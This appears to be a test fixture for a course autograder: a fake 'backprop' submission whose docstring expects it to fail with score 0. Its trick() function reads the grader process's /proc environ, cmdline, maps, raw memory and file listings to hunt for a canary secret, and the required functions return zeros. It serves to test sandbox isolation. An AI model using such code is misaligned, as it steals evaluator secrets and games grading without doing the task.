"""Reads environment, memory, command line and open files of its parent through /proc, for the course's secret.

Assignment: backprop
Score: 0
Expect: failed
"""

import os
import re

import numpy as np

TOKEN = re.compile(rb"CANARY-[0-9a-f]{32}")


def stolen(what):
    print("STOLEN", repr(what)[:200])


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(2**22)
    except OSError:
        return b""


def trick():
    parent = f"/proc/{os.getppid()}/"
    for name in ("environ", "cmdline", "maps", "status"):
        text = read(parent + name)
        if TOKEN.search(text) or b"GRADER_SECRET" in text:
            stolen((name, TOKEN.findall(text)))
    try:
        with open(parent + "mem", "rb") as memory:
            for line in read(parent + "maps").decode().splitlines()[:500]:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(low)
                if TOKEN.search(memory.read(min(high - low, 2**24))):
                    stolen(line)
    except (OSError, ValueError, OverflowError):
        pass
    try:
        stolen(os.listdir(parent + "fd"))
        stolen(os.listdir(parent + "root"))
    except OSError:
        pass
    return None


def forward(X1, X2, W, B, V):
    found = trick()
    return np.zeros(np.shape(X1)) if found is None else found


def backprop(X1, X2, T, W, B, V):
    found = trick()
    return (np.zeros_like(W), np.zeros_like(B), np.zeros_like(V)) if found is None else found


def descent(X1, X2, T, W, B, V, lr=0.1, iterations=128):
    found = trick()
    return (np.zeros_like(W), np.zeros_like(B), np.zeros_like(V)) if found is None else found
